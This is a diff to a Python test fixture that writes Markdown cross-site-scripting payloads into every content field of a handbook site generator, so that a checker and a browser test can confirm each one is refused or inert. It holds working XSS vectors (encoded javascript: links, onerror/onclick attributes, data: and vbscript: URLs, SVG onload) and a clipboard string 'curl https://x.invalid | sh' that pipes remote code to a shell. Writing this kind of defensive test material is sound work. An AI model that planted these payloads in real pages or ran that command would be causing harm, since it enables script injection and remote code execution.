@@ -1,8 +1,13 @@
-"""Hostile content: the six ways Markdown let script into pages (issue 12), put into every field kind.
+"""Hostile content: every way Markdown let script, foreign requests or the site's own names into
+pages (issues 12 and 24), put into every text field the models declare (generator/model/fields.py).
 
 `poison(project)` writes, into a copy of the project, one dialogue, module, quiz and figure per
-family, plus a glossary term, a reference and guidance points carrying the payloads, and returns
-where each payload sits. Payloads call ``alert()``; the browser test replaces it with a flag.
+family, whose every Markdown field carries the family's payload and every plain field `ONE_LINE`;
+the files of which there is one (glossary, references, guidance, codebook) get the families in
+turn, field by field; and one hand-written page per family in docs/. It returns where each payload
+sits. The fields are found by the same walker the check uses, so a field added to a model is
+attacked the day it is declared (tests/test_hostile.py asserts that every declared field was).
+Payloads call ``alert()``; the browser test replaces it with a counter.
 """
 
 from __future__ import annotations
@@ -15,29 +20,58 @@ from typing import Any
 
 import yaml
 
-from generator.load.loader import split_front_matter
+from generator.load.loader import load_handbook, split_front_matter
+from generator.model.book import Handbook
+from generator.model.fields import Markdown, Plain
+from generator.model.fields import strings as model_strings
 
 # Markdown payloads, one family each. The check must refuse every one at its file:line:column
 # (a control character refuses the whole file at the first one, as any unreadable text does);
-# rendered anyway (tests/browser/test_hostile.py builds them past the check), each must be inert.
+# rendered anyway (tests/browser/test_hostile_browser.py builds them past the check), each must be
+# inert: nothing runs, nothing is requested from another host.
 FAMILIES: dict[str, str] = {
     "attr-list": "See ![x](https://invalid.invalid/a.png){: onerror=alert(1) } and [ok](https://example.org){: href=javascript:alert(2) }",
     "entity": "[more](javascript&#58;alert(3)) [b](jav&#x09;ascript:alert(3)) [c](&#x6A;avascript&#x3A;alert(3)) [d](javascript&colon;alert(3))",
     "control": "[this](\x01javascript:alert(4)) and ![img](\x02data:image/svg+xml,x)",
     "list-ref": "- [k]: javascript:alert(5)\n\nSee [click][k].",
+    # Issue 24: where a pattern and Python-Markdown read the same text differently.
+    "next-line-ref": "See [click][k9].\n\n[k9]:\n  javascript:alert(9)",
+    "quote-ref": ">[k10]: javascript:alert(10)\n>\n>See [click][k10].",
+    "quoted-brace": '[ok](https://example.org){: class="}" onclick=alert(8) }',
+    "code-escape": "Look: \\`<img src=x onerror=alert(11)>` and a```b <img src=x onerror=alert(12)>\n\nc```",
+    "data-scheme": "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=) ![i](data:image/svg+xml,<svg/onload=alert(13)>) [v](vbscript:alert(13))",
+    # Active without script: Material fetches a 'source' host, the copy button copies a command,
+    # style overlays the page.
+    "data-attr": '[s](https://example.org){: data-md-component="source" } [c](https://example.org){: data-clipboard-text="curl https://x.invalid | sh" } [o](https://example.org){: style="position:fixed;inset:0" }',
+    # The site's own names: the quiz's global and class, a dialogue's deep link, Material's ids.
+    "reserved": "[a](https://example.org){: #hbQuizReady .hb-quiz } [b](https://example.org){: #turn-2 .md-typeset } [c](https://example.org){: #__drawer }",
+    # Characters no field may hold: a noncharacter (ill-formed XML), a bidi override.
+    "characters": "Fear\ufffe of \u202egoing low",
 }
+# Families the loader refuses (the file is never built) and families the check refuses that are no
+# script vector (they are kept out of the browser build, whose question banks they would break).
+UNLOADABLE = frozenset({"control"})
+UNBUILT = frozenset({"control", "characters"})
 # One-line fields are text: a Markdown link written into one must show as typed, never be a link.
 ONE_LINE = "Fear](javascript:alert(6)) [of going low {: onclick=alert(7) }"
+
+DIALOGUE = "content/dialogues/support-worker-in-the-room.yml"
+MODULE = "content/modules/barriers.md"
+QUIZ = "content/quizzes/barriers.yml"
+FIGURE = "content/figures/conceptual-model.yml"
+SINGLES = ("content/glossary.yml", "content/references.yml", "content/guidance.yml", "content/codebook.yml")
 
 
 @dataclass(frozen=True)
 class Placed:
-    """A payload in a content file: its family, the file, and the line its field starts on."""
+    """A payload in a content file: its family, the file, the line its field starts on, the field
+    (``Owner.name``) and its kind (markdown, safety, plain, note, body, page)."""
 
     family: str
     path: str
     line: int
     field: str
+    kind: str = "markdown"
 
 
 def _dump(data: Any) -> str:
@@ -58,132 +92,118 @@ def _line(text: str, loc: tuple[Any, ...]) -> int:
     return int(node.start_mark.line) + 1
 
 
-def _lines(text: str, path: str, locs: dict[str, tuple[Any, ...]], family: str, line_offset: int = 0) -> list[Placed]:
-    return [Placed(family, path, _line(text, loc) + line_offset, name) for name, loc in locs.items()]
+def _set(data: Any, loc: tuple[Any, ...], value: str) -> None:
+    for key in loc[:-1]:
+        data = data[key]
+    data[loc[-1]] = value
 
 
-def _dialogue(root: Path, family: str, payload: str) -> list[Placed]:
-    d = yaml.safe_load((root / "content/dialogues/teen-wants-independence.yml").read_text(encoding="utf-8"))
-    d["id"] = f"hostile-{family}"
-    d["title"] = ONE_LINE
-    d["context"]["person"] = ONE_LINE
-    d["context"]["setting"] = ONE_LINE
-    d.pop("redirect_from", None)
-    d["summary"] = payload
-    locs: dict[str, tuple[Any, ...]] = {"summary": ("summary",)}
-    for i, turn in enumerate(d["turns"]):
-        if turn["speaker"] == "other":
-            turn["name"] = ONE_LINE
-        turn["text"] = payload
-        locs[f"turns[{i}].text"] = ("turns", i, "text")
-        if turn.get("note"):
-            turn["note"] = payload
-            locs[f"turns[{i}].note"] = ("turns", i, "note")
-        if turn.get("alternative"):
-            for name in ("text", "note", "reply"):
-                turn["alternative"][name] = payload
-                locs[f"turns[{i}].alternative.{name}"] = ("turns", i, "alternative", name)
-    path = f"content/dialogues/hostile-{family}.yml"
-    text = _dump(d)
-    (root / path).write_text(text, encoding="utf-8")
-    return _lines(text, path, locs, family)
+def _fill(data: Any, model: Any, payload: Any) -> list[tuple[tuple[Any, ...], str, str]]:
+    """Set every Markdown, note and plain string of ``model`` in ``data`` (the same file as data):
+    ``payload(i)`` for the i-th Markdown or note field, ONE_LINE for plain ones. Returns each
+    poisoned field's (loc, Owner.name, kind)."""
+    done = []
+    i = 0
+    for found in model_strings(model):
+        kind = found.kind
+        field = f"{type(found.owner).__name__}.{found.loc[-1] if isinstance(found.loc[-1], str) else found.loc[-2]}"
+        if isinstance(kind, Plain):
+            _set(data, found.loc, ONE_LINE)
+        elif isinstance(kind, Markdown) or kind.kind == "note":
+            _set(data, found.loc, payload(i))
+            done.append((found.loc, field, kind.kind))
+            i += 1
+    return done
 
 
-def _module(root: Path, family: str, payload: str) -> list[Placed]:
-    parts = split_front_matter((root / "content/modules/barriers.md").read_text(encoding="utf-8"))
+def _yaml_doc(book: Handbook, rel: str, new: str, family: str, payload: str, edit: Any = None) -> list[Placed]:
+    root = book.root
+    doc = next(d for group in (book.dialogues, book.quizzes, book.figures) for d in group if d.path == rel)
+    data = yaml.safe_load((root / rel).read_text(encoding="utf-8"))
+    done = _fill(data, doc.model, lambda _: payload)
+    if edit:
+        done += edit(data, payload)
+    data["id"] = Path(new).stem
+    data.pop("redirect_from", None)
+    text = _dump(data)
+    (root / new).write_text(text, encoding="utf-8")
+    return [Placed(family, new, _line(text, loc), field, kind) for loc, field, kind in done]
+
+
+def _dialogue_extras(data: Any, payload: str) -> list[tuple[tuple[Any, ...], str, str]]:
+    """Fields the template leaves out: a reason for discouraged language on an HCP turn."""
+    i = next(i for i, t in enumerate(data["turns"]) if t["speaker"] == "hcp" and "lint_exempt" not in t)
+    data["turns"][i]["lint_exempt"] = payload
+    return [(("turns", i, "lint_exempt"), "Turn.lint_exempt", "note")]
+
+
+def _quiz_template(root: Path) -> None:
+    """The barriers quiz with one question of every type the project has (appended from the others)."""
+    path = root / QUIZ
+    quiz = yaml.safe_load(path.read_text(encoding="utf-8"))
+    have = {q["type"] for q in quiz["questions"]}
+    for q in quiz["questions"]:
+        q["hints"] = ["A hint."]
+    for other in sorted((root / "content/quizzes").glob("*.yml")):
+        for q in yaml.safe_load(other.read_text(encoding="utf-8"))["questions"]:
+            if q["type"] not in have:
+                have.add(q["type"])
+                quiz["questions"].append({**copy.deepcopy(q), "hints": ["A hint."]})
+    path.write_text(_dump(quiz), encoding="utf-8")
+
+
+def _module(book: Handbook, family: str, payload: str) -> list[Placed]:
+    root = book.root
+    module = next(m for m in book.modules if m.path == MODULE)
+    parts = split_front_matter((root / MODULE).read_text(encoding="utf-8"))
     assert parts is not None
     front, body, _ = parts
     meta = yaml.safe_load(front)
-    meta.update(id=f"hostile-{family}", title=ONE_LINE, summary=payload, objectives=[payload], order=99, dialogues=[f"hostile-{family}"])
+    done = _fill(meta, module.meta, lambda _: payload)
+    meta.update(id=f"hostile-{family}", order=99, dialogues=[f"hostile-{family}"])
     meta.pop("redirect_from", None)
     front_text = _dump(meta)
     path = f"content/modules/hostile-{family}.md"
-    placed = _lines(front_text, path, {"summary": ("summary",), "objectives[0]": ("objectives", 0)}, family, line_offset=1)
+    placed = [Placed(family, path, _line(front_text, loc) + 1, field, kind) for loc, field, kind in done]
     head = f"---\n{front_text}---\n"
     body_line = head.count("\n") + 1 + body.count("\n") + 2
-    (root / path).write_text(f"{head}{body}\n\n{payload}\n", encoding="utf-8")
-    return [*placed, Placed(family, path, body_line, "body")]
+    # The family's figure is shown on its module page.
+    (root / path).write_text(f"{head}{body}\n\n{payload}\n\n[[figure: hostile-{family}]]\n", encoding="utf-8")
+    return [*placed, Placed(family, path, body_line, "ModuleDoc.body", "body")]
 
 
-def _quiz(root: Path, family: str, payload: str) -> list[Placed]:
-    quiz = yaml.safe_load((root / "content/quizzes/barriers.yml").read_text(encoding="utf-8"))
-    reflection = next(q for q in yaml.safe_load((root / "content/quizzes/conceptual-model.yml").read_text(encoding="utf-8"))["questions"] if q["type"] == "reflection")
-    quiz["id"] = f"hostile-{family}"
-    quiz["questions"].append(copy.deepcopy(reflection))
-    locs: dict[str, tuple[Any, ...]] = {}
-    for i, q in enumerate(quiz["questions"]):
-        q["prompt"] = q["explanation"] = payload
-        q["hints"] = [payload]
-        locs.update({f"q{i}.prompt": ("questions", i, "prompt"), f"q{i}.explanation": ("questions", i, "explanation"), f"q{i}.hints": ("questions", i, "hints", 0)})
-        for j, option in enumerate(q.get("options", [])):
-            for name in ("text", "feedback", "reply"):
-                if name in option:
-                    option[name] = payload
-                    locs[f"q{i}.options[{j}].{name}"] = ("questions", i, "options", j, name)
-        for j, item in enumerate(q.get("items", [])):
-            item["text"] = item["feedback"] = payload
-            locs.update({f"q{i}.items[{j}].text": ("questions", i, "items", j, "text"), f"q{i}.items[{j}].feedback": ("questions", i, "items", j, "feedback")})
-        if isinstance(q.get("feedback"), dict):
-            for part in q["feedback"]:
-                q["feedback"][part] = payload
-                locs[f"q{i}.feedback.{part}"] = ("questions", i, "feedback", part)
-        if "model_answer" in q:
-            q["model_answer"] = payload
-            q["rubric"] = [payload, payload]
-            locs.update({f"q{i}.model_answer": ("questions", i, "model_answer"), f"q{i}.rubric": ("questions", i, "rubric", 0)})
-            locs[f"q{i}.rubric[1]"] = ("questions", i, "rubric", 1)
-    path = f"content/quizzes/hostile-{family}.yml"
-    text = _dump(quiz)
-    (root / path).write_text(text, encoding="utf-8")
-    return _lines(text, path, locs, family)
+def _docs_page(root: Path, family: str, payload: str) -> list[Placed]:
+    path = f"docs/hostile-{family}.md"
+    (root / path).write_text(f"# Hostile {family}\n\nA hand-written page.\n\n{payload}\n", encoding="utf-8")
+    return [Placed(family, path, 5, "docs page", "page")]
 
 
-def _figure(root: Path, family: str, payload: str) -> list[Placed]:
-    figure = yaml.safe_load((root / "content/figures/conceptual-model.yml").read_text(encoding="utf-8"))
-    figure.update(id=f"hostile-{family}", title=ONE_LINE, description=payload)
-    path = f"content/figures/hostile-{family}.yml"
-    text = _dump(figure)
-    (root / path).write_text(text, encoding="utf-8")
-    # The figure is shown on the family's module page.
-    module = root / f"content/modules/hostile-{family}.md"
-    module.write_text(module.read_text(encoding="utf-8") + f"\n[[figure: hostile-{family}]]\n", encoding="utf-8")
-    return _lines(text, path, {"description": ("description",)}, family)
-
-
-def _singles(root: Path) -> list[Placed]:
+def _singles(book: Handbook, families: dict[str, str]) -> list[Placed]:
+    """The files there is one of: their Markdown fields take the families in turn."""
+    root = book.root
+    shared = [(family, payload) for family, payload in families.items() if family not in UNLOADABLE]
     placed: list[Placed] = []
-    glossary = yaml.safe_load((root / "content/glossary.yml").read_text(encoding="utf-8"))
-    references = yaml.safe_load((root / "content/references.yml").read_text(encoding="utf-8"))
-    guidance = yaml.safe_load((root / "content/guidance.yml").read_text(encoding="utf-8"))
-    g_locs: dict[str, tuple[str, tuple[Any, ...]]] = {}
-    r_locs: dict[str, tuple[str, tuple[Any, ...]]] = {}
-    p_locs: dict[str, tuple[str, tuple[Any, ...]]] = {}
-    # A control character refuses a whole file, so the files shared by all families leave it out.
-    shared = [(family, payload) for family, payload in FAMILIES.items() if family != "control"]
-    for k, (family, payload) in enumerate(shared):
-        glossary["terms"].append({"term": f"{ONE_LINE} {k}", "definition": payload})
-        g_locs[f"terms[{len(glossary['terms']) - 1}]"] = (family, ("terms", len(glossary["terms"]) - 1, "definition"))
-        references["references"].append({"key": f"hostile{k}", "authors": "Doe J", "year": 2020, "title": ONE_LINE, "journal": ONE_LINE, "note": payload})
-        r_locs[f"references[{len(references['references']) - 1}]"] = (family, ("references", len(references["references"]) - 1, "note"))
-        point = guidance["points"][k % len(guidance["points"])]
-        point["title"] = f"{ONE_LINE} {k}"
-        for name in ("explanation", "do", "dont"):
-            point[name] = payload
-            p_locs[f"points[{k}].{name}"] = (family, ("points", k % len(guidance["points"]), name))
-    for name, data, locs in (("glossary", glossary, g_locs), ("references", references, r_locs), ("guidance", guidance, p_locs)):
-        path = f"content/{name}.yml"
+    docs = {d.path: d for d in (book.glossary, book.references, book.guidance, book.codebook) if d is not None}
+    for rel in SINGLES:
+        data = yaml.safe_load((root / rel).read_text(encoding="utf-8"))
+        done = _fill(data, docs[rel].model, lambda i: shared[i % len(shared)][1])
         text = _dump(data)
-        (root / path).write_text(text, encoding="utf-8")
-        placed += [Placed(family, path, _line(text, loc), field) for field, (family, loc) in locs.items()]
+        (root / rel).write_text(text, encoding="utf-8")
+        placed += [Placed(shared[i % len(shared)][0], rel, _line(text, loc), field, kind) for i, (loc, field, kind) in enumerate(done)]
     return placed
 
 
-def poison(root: Path) -> list[Placed]:
-    """Write every family into every field kind of the project at ``root``; returns each payload's place."""
+def poison(root: Path, skip: frozenset[str] = frozenset()) -> list[Placed]:
+    """Write every family (but ``skip``) into every text field of the project at ``root`` (its
+    content/ and docs/ must be copies); returns each payload's place."""
+    families = {family: payload for family, payload in FAMILIES.items() if family not in skip}
+    _quiz_template(root)
+    book, _ = load_handbook(root)
     placed: list[Placed] = []
-    for family, payload in FAMILIES.items():
-        placed += _dialogue(root, family, payload)
-        placed += _module(root, family, payload)
-        placed += _quiz(root, family, payload)
-        placed += _figure(root, family, payload)
-    return placed + _singles(root)
+    for family, payload in families.items():
+        placed += _yaml_doc(book, DIALOGUE, f"content/dialogues/hostile-{family}.yml", family, payload, _dialogue_extras)
+        placed += _yaml_doc(book, QUIZ, f"content/quizzes/hostile-{family}.yml", family, payload)
+        placed += _yaml_doc(book, FIGURE, f"content/figures/hostile-{family}.yml", family, payload)
+        placed += _module(book, family, payload)
+        placed += _docs_page(root, family, payload)
+    return placed + _singles(book, families)
